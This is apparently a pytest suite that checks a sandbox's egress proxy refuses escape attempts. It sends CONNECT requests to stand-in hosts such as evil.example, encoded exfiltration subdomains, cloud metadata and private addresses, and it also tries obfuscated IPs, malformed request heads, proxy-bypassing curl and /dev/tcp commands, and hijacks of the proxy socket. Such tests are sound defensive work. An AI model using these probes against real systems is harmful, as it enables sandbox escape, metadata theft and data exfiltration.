"""Getting out through the proxy, when the owner allowed one host, or any: to others, to neighbours, to the gateway.

That no other name was resolved and nobody else reached is asserted after every case, by the lab's journals.
"""

from __future__ import annotations

import json
import re
import time

import pytest

from tests.fakes.defaults import OPENROUTER_HOST, OTHER_SITE_HOST, SITE_HOST, TELEGRAM_HOST
from tests.hostile.attacker import Attacker, Told
from tests.lab.addresses import SITES

# CONNECT by hand, through the loopback port or straight to the socket behind it.
PROBE = r"""
import ssl
def proxy(direct=False):
    s = socket.socket(socket.AF_UNIX if direct else socket.AF_INET)
    s.settimeout(8)
    s.connect("/run/sandbox/proxy.sock" if direct else ("127.0.0.1", 3128))
    return s
def said_to(head, direct=False):
    with proxy(direct) as s:
        s.sendall(head)
        said = b""
        while b"\r\n" not in said and (data := s.recv(4096)): said += data
        return said.split(b"\r\n")[0].decode("latin-1")
def knock(name, head, direct=False):
    said = said_to(head, direct)
    sys.stdout.write(f"{name} {'PWNED' if said.startswith('HTTP/1.1 2') else 'refused'} {said}\n")
def connect_to(target, direct=False):
    knock(ascii(target), f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), direct)
def talk(name, target, host):
    # In a tunnel: TLS for that host, without a server name (None), or none at all ("").
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        s = proxy()
        s.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        said = s.recv(4096)
        if b" 200 " not in said: return print(name, "no tunnel", said, flush=True)
        if host != "": s = context.wrap_socket(s, server_hostname=host)
        s.sendall(f"GET / HTTP/1.1\r\nHost: {host or 'x'}\r\n\r\n".encode())
        said = s.recv(4096)
    except OSError as error:
        print(name, "refused", error, flush=True)
    else:
        print(name, "PWNED" if b"HTTP/" in said else "refused", said, flush=True)
"""

# As the audit log has them, and as they are asked for.
NOT_LISTED = {
    OTHER_SITE_HOST: f"{OTHER_SITE_HOST}:443",
    TELEGRAM_HOST: f"{TELEGRAM_HOST}:443",
    OPENROUTER_HOST: f"{OPENROUTER_HOST}:443",
    "example.org": "example.org:443",
    f"evil-{SITE_HOST}": f"evil-{SITE_HOST}:443",
    f"{SITE_HOST}.evil.example": f"{SITE_HOST}.evil.example:443",
    f"c2vjcmv0.{SITE_HOST}": f"c2VjcmV0.{SITE_HOST}:443",
    "73656372657473656372657473656372.tunnel.evil.example": "73656372657473656372657473656372.tunnel.evil.example:53",
    SITES[SITE_HOST]: f"{SITES[SITE_HOST]}:443",
    "1.1.1.1": "1.1.1.1:443",
    "127.0.0.1": "127.0.0.1:18790",
    "localhost": "localhost:18790",
    "0.0.0.0": "0.0.0.0:18790",  # noqa: S104
    "::1": "[::1]:18790",
    "169.254.169.254": "169.254.169.254:80",
    "fd00:ec2::254": "[fd00:ec2::254]:80",
    "64:ff9b::a9fe:a9fe": "[64:ff9b::a9fe:a9fe]:80",
    "2002:a9fe:a9fe::1": "[2002:a9fe:a9fe::1]:80",
    "192.168.1.1": "192.168.1.1:443",
    "172.17.0.1": "172.17.0.1:22",
    "metadata.google.internal": "metadata.google.internal:80",
    "picoclaw": "picoclaw:18790",
}
# The same address in other clothes.
MAPPED = ("[::ffff:169.254.169.254]:80", "[::ffff:a9fe:a9fe]:80", "[0:0:0:0:0:ffff:a9fe:a9fe]:80")
PORTS = (22, 25, 53, 80, 444, 18790, 65535)
NO_TARGETS = (
    f"{SITE_HOST}:443@evil.example:443", f"evil.example:443@{SITE_HOST}:443", f"evil@{SITE_HOST}:443",
    f"{SITE_HOST}:443:443", f"{SITE_HOST}", f"{SITE_HOST}:", f"{SITE_HOST}:0", f"{SITE_HOST}:65536", f"{SITE_HOST}:-1",
    f"{SITE_HOST}#.evil.example:443", f"{SITE_HOST}/../evil.example:443", f"https://{SITE_HOST}:443/",
    "2130706433:443", "0x7f.1:443", "0177.0.0.1:443", "127.1:443", "1.1:443", "0:18790", "[127.0.0.1]:443",
    "[fe80::1%eth0]:443", "fe80::1:443", "*:443", "*.example.org:443", ".:443", f".{SITE_HOST}:443",
    f"{SITE_HOST}..:443", f"{SITE_HOST}\u3002evil.example:443", "\u2460.\u2460.\u2460.\u2460:443", "a" * 300 + ":443",
)  # fmt: skip
REQUESTS = {
    "a page": rb"GET https://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n",
    "metadata": rb"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
    "the gateway's health": rb"GET /health HTTP/1.1\r\nHost: 127.0.0.1:18790\r\n\r\n",
    "a post": rb"POST https://%s/ HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
    "HTTP/2": rb"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "no version": rb"CONNECT %s:443\r\n\r\n",
    "an older version": rb"CONNECT %s:443 HTTP/0.9\r\n\r\n",
    "lower case": rb"connect %s:443 HTTP/1.1\r\n\r\n",
    "two targets": rb"CONNECT %s:443 evil.example:443 HTTP/1.1\r\n\r\n",
    "a NUL": rb"CONNECT %s\x00.evil.example:443 HTTP/1.1\r\n\r\n",
    "a bare line feed": rb"CONNECT evil.example:443 HTTP/1.1\nHost: %s\n\n",
    "SOCKS": rb"\x05\x01\x00\r\n\r\n",
    "a head without end": rb"CONNECT %s:443 HTTP/1.1\r\nX: " + b"x" * 9000,
}

pytestmark = pytest.mark.usefixtures("allow_hosts")
one_host = pytest.mark.parametrize("allow_hosts", [[SITE_HOST]], indirect=True, ids=["one host"])
any_host = pytest.mark.parametrize("allow_hosts", [["*"]], indirect=True, ids=["any host"])
site_is_looked_up = pytest.mark.resolves(SITE_HOST)


def probe(attacker: Attacker, program: str, timeout_s: float = 60.0) -> Told:
    return attacker.python(f"{PROBE}{program}", timeout_s)


def all_refused(told: Told, count: int, *answers: str) -> None:
    """Assert that each of `count` attempts was answered so."""
    lines = told.lines[:-1]
    assert len(lines) == count, told.text
    wrong = [line for line in lines if not re.search(f" refused HTTP/1.1 ({'|'.join(answers)})", line)]
    assert not wrong, wrong


def refused_in_books(attacker: Attacker) -> set[str]:
    """The hosts that were refused lately, by `picoclaw egress`; what is not yet stored is waited for."""
    time.sleep(2.5)
    printed = attacker.stack.lab.ssh("docker exec picoclaw picoclaw egress --json --limit 200", check=True).stdout
    return {row["host"] for row in json.loads(printed) if row["verdict"] == "refused"}


@one_host
@pytest.mark.parametrize("direct", [False, True], ids=["by the port", "by the socket"])
def test_hosts_that_are_not_listed(attacker: Attacker, direct: bool) -> None:
    told = probe(attacker, f"for t in {list(NOT_LISTED.values())!r}: connect_to(t, {direct})")
    all_refused(told, len(NOT_LISTED), r"403 \S+ is not allowed: add \S+ to sandbox.allow_hosts in config.json")
    assert set(NOT_LISTED) <= refused_in_books(attacker)


@one_host
def test_mapped_addresses(attacker: Attacker) -> None:
    told = probe(attacker, f"for t in {MAPPED!r}: connect_to(t)")
    all_refused(told, len(MAPPED), "403 169.254.169.254:80 is not allowed")


@one_host
def test_other_ports_of_the_listed_host(attacker: Attacker) -> None:
    told = probe(attacker, f"for port in {PORTS!r}: connect_to('{SITE_HOST}:' + str(port))")
    all_refused(told, len(PORTS), rf"403 {SITE_HOST}:\d+ is not allowed")


@one_host
def test_targets_that_are_none(attacker: Attacker) -> None:
    told = probe(attacker, f"for t in {NO_TARGETS!r}: connect_to(t)")
    all_refused(told, len(NO_TARGETS), "400 The target of CONNECT must be host:port", "403 .* is not allowed")


@one_host
@pytest.mark.parametrize("name", REQUESTS)
def test_requests_that_are_none(attacker: Attacker, name: str) -> None:
    head = REQUESTS[name].decode("latin-1").replace("%s", SITE_HOST)
    told = probe(attacker, f'knock("it", b"{head}")')
    all_refused(told, 1, "40[035] ", "431 ")


@one_host
@site_is_looked_up
def test_tls_for_another_host_of_the_same_address(attacker: Attacker) -> None:
    """What a CDN would serve: the tunnel is the listed host's, the server name another's, hidden, or no TLS at all."""
    program = f"""
for name, host in (("another", "{OTHER_SITE_HOST}"), ("below", "a.{SITE_HOST}"), ("none", None), ("plain", "")):
    talk(name, "{SITE_HOST}:443", host)
"""
    told = probe(attacker, program)
    assert [line.split()[:2] for line in told.lines[:-1]] == [
        ["another", "refused"], ["below", "refused"], ["none", "refused"], ["plain", "refused"],
    ], told.text  # fmt: skip
    assert told.text.count("UNRECOGNIZED_NAME") == 3
    assert SITE_HOST in refused_in_books(attacker)


@one_host
@site_is_looked_up
def test_the_listed_host_itself_is_reached(attacker: Attacker) -> None:
    """Or the cases above would prove nothing."""
    told = probe(attacker, f'talk("itself", "{SITE_HOST}:443", "{SITE_HOST}")')
    assert "itself PWNED" in told.text


@one_host
@site_is_looked_up
@pytest.mark.parametrize(
    "command",
    [
        f"curl -sSL https://{SITE_HOST}/redirect/{OTHER_SITE_HOST}",
        f"curl -sS --resolve {OTHER_SITE_HOST}:443:{SITES[SITE_HOST]} https://{OTHER_SITE_HOST}/",
        f"curl -sS --connect-to {OTHER_SITE_HOST}:443:{SITE_HOST}:443 -k https://{OTHER_SITE_HOST}/",
        f"curl -sS https://{OTHER_SITE_HOST}/",
        f"curl -sSk https://{SITES[OTHER_SITE_HOST]}/",
        "curl -sSk https://169.254.169.254/latest/meta-data/",
        "curl -sSp --noproxy '' http://127.0.0.1:18790/health",
        f"timeout 20 git clone -q https://{OTHER_SITE_HOST}/repo.git",
        f"pip download --retries 1 -d d -i https://{OTHER_SITE_HOST}/simple picoclaw-sample",
        f"python3 -c 'import urllib.request as u; u.urlopen(\"https://{OTHER_SITE_HOST}/\")'",
    ],
)
def test_clients(attacker: Attacker, command: str) -> None:
    told = attacker.run(f"({command}) && echo PWNED", timeout_s=30)
    told.refused("CONNECT tunnel failed, response 403|Tunnel connection failed: 403|unrecognized name|SSL")


@one_host
@pytest.mark.parametrize(
    "command",
    [
        f"curl -sS --noproxy '*' -m 3 https://{SITE_HOST}/",
        f"env -i curl -sS -m 3 https://{SITE_HOST}/",
        f"timeout 5 bash -c 'echo > /dev/tcp/{SITES[SITE_HOST]}/443'",
        "timeout 5 bash -c 'echo > /dev/tcp/127.0.0.1/18790'",
        f"timeout 5 getent hosts {SITE_HOST}",
    ],
)
def test_there_is_no_way_but_the_proxy(attacker: Attacker, command: str) -> None:
    attacker.run(f"({command}) && echo PWNED; echo over", timeout_s=20).refused("^over$")


@one_host
def test_the_port_and_the_socket_cannot_be_taken(attacker: Attacker) -> None:
    program = """
def take(family, address):
    s = socket.socket(family)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        if family != socket.AF_UNIX: s.setsockopt(socket.SOL_SOCKET, option, 1)
    s.bind(address); s.listen()
attempt("port", take, socket.AF_INET, ("127.0.0.1", 3128))
attempt("any", take, socket.AF_INET, ("0.0.0.0", 3128))
attempt("six", take, socket.AF_INET6, ("::", 3128))
attempt("socket", take, socket.AF_UNIX, "/run/sandbox/proxy.sock")
attempt("unlink", os.unlink, "/run/sandbox/proxy.sock")
attempt("rename", os.rename, "/run/sandbox/proxy.sock", "/run/sandbox/x")
attempt("roots", open, "/run/sandbox/ca.pem", "a")
"""
    attacker.python(program).all_refused(7, "EADDRINUSE", "EROFS")


@one_host
def test_a_flood_of_refusals(attacker: Attacker) -> None:
    """Three hundred at once, then one more: counted, bounded, and the chat goes on (asserted after every case)."""
    program = """
import collections, threading
answers = collections.Counter()
def one(n):
    try: answers[said_to(f"CONNECT secret{n}.evil.example:443 HTTP/1.1\\r\\n\\r\\n".encode())[9:12]] += 1
    except OSError as error: answers[str(error)] += 1
threads = [threading.Thread(target=one, args=(n,)) for n in range(300)]
for start in range(0, 300, 30):
    for t in threads[start:start + 30]: t.start()
    for t in threads[start:start + 30]: t.join()
print(dict(answers))
"""
    assert probe(attacker, program).lines == ["{'403': 300}", "[exit code 0]"]


@any_host
def test_neighbours_when_any_host_is_allowed(attacker: Attacker) -> None:
    """The names are known to the gateway's /etc/hosts, and private or its own."""
    targets = [
        *(f"{address}:443" for address in attacker.addresses.values()),
        "127.0.0.1:443", "0.0.0.0:443", "[::1]:443", "[fd00::1]:443", "[fe80::1]:443", "192.168.1.1:443",
        "100.64.0.1:443", "172.17.0.1:443", "224.0.0.1:443", "255.255.255.255:443", "[64:ff9b::a00:1]:443",
        "[::ffff:10.0.0.1]:443", "[2002:a00:1::1]:443", "169.254.169.254:443", "[fd00:ec2::254]:443",
        "168.63.129.16:443", "localhost:443", "picoclaw:443", f"{TELEGRAM_HOST}:443", f"{OPENROUTER_HOST}:443",
    ]  # fmt: skip
    told = probe(attacker, f"for t in {targets!r}: connect_to(t)")
    all_refused(told, len(targets), r"403 \S+ (is|resolves to) an address that is not global")


@any_host
def test_other_ports_when_any_host_is_allowed(attacker: Attacker) -> None:
    targets = [f"{host}:{port}" for host in ("1.1.1.1", "127.0.0.1", SITE_HOST) for port in PORTS]
    told = probe(attacker, f"for t in {targets!r}: connect_to(t)")
    all_refused(told, len(targets), r"403 \S+ is not allowed")


@any_host
@site_is_looked_up
@pytest.mark.resolves(OTHER_SITE_HOST)
def test_any_global_host_is_reached_when_any_is_allowed(attacker: Attacker) -> None:
    told = attacker.run(f"curl -sS https://{SITE_HOST}/ https://{OTHER_SITE_HOST}/", timeout_s=20)
    assert told.lines == [f"this is {SITE_HOST}", f"this is {OTHER_SITE_HOST}", "[exit code 0]"], told.text
